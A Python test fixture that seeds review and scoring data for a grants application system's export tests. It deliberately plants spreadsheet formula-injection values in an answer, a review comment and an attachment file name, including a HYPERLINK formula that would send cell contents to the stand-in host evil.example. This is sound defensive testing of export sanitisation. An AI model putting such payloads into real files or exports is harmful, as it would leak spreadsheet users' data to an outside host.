"""The demo with what exports and the jury's meeting need that the demo lacks: reviews.

`score_demo()` assigns jurors of both panels to the first three submitted applications and
scores them (submitted reviews, one draft, one assignment not begun), and plants text a
spreadsheet would run as a formula in an answer, a file name and a juror's comment.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime

from grants.models import (
    Answer,
    Application,
    Assignment,
    Attachment,
    CriterionScore,
    Edition,
    Panel,
    PanelMember,
    Question,
    Review,
    ReviewStatus,
)
from grants.services.review import edition_rubric

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
FILE_NAME = "@SUM(1+1)plan.pdf"
REFERENCES = ("EPP-2027-0001", "EPP-2027-0002", "EPP-2027-0003")


@dataclass
class Scored:
    edition: Edition
    assignments: int  # assignments made, each a row per criterion in the reviews export
    criteria: int  # criteria of the edition's rubric


async def score_demo() -> Scored:
    edition = await Edition.get(slug="epp-2027")
    rubric = edition_rubric(edition)
    panels = await Panel.filter(edition=edition).order_by("id")
    members = {
        p.id: await PanelMember.filter(panel=p).order_by("id").select_related("user")
        for p in panels
    }
    made = 0
    for index, reference in enumerate(REFERENCES):
        application = await Application.get(reference=reference)
        jurors = [(p, m.user) for p in panels for m in members[p.id][:2]]
        for number, (panel, juror) in enumerate(jurors):
            assignment = await Assignment.create(panel=panel, juror=juror, application=application)
            made += 1
            if index == 2 and number == len(jurors) - 1:
                continue  # assigned, not begun
            draft = index == 2 and number == len(jurors) - 2
            review = await Review.create(
                assignment=assignment,
                status=ReviewStatus.DRAFT if draft else ReviewStatus.SUBMITTED,
                submitted_at=None if draft else datetime(2027, 3, 1, 9, 30, tzinfo=UTC),
                overall_comment=FORMULA if (index, number) == (0, 0) else f"Review {number}",
            )
            for position, criterion in enumerate(rubric.criteria):
                if draft and position > 0:
                    break
                await CriterionScore.create(
                    review=review,
                    criterion=criterion.id,
                    score=float((index + number + position) % 6),
                    comment="-2 points: no budget" if position == 0 else "",
                )
    first = await Application.get(reference=REFERENCES[0])
    needs = await Question.get(edition=edition, key="needs")
    await Answer.filter(application=first, question=needs).update(payload={"value": FORMULA})
    workplan = await Question.get(edition=edition, key="workplan")
    await Attachment.create(
        application=first,
        question=workplan,
        original_name=FILE_NAME,
        stored_name="export-test-not-on-disk",
        content_type="application/pdf",
        size=10,
        sha256="0" * 64,
        uploaded_by_id=first.created_by_id,
    )
    return Scored(edition=edition, assignments=made, criteria=len(rubric.criteria))
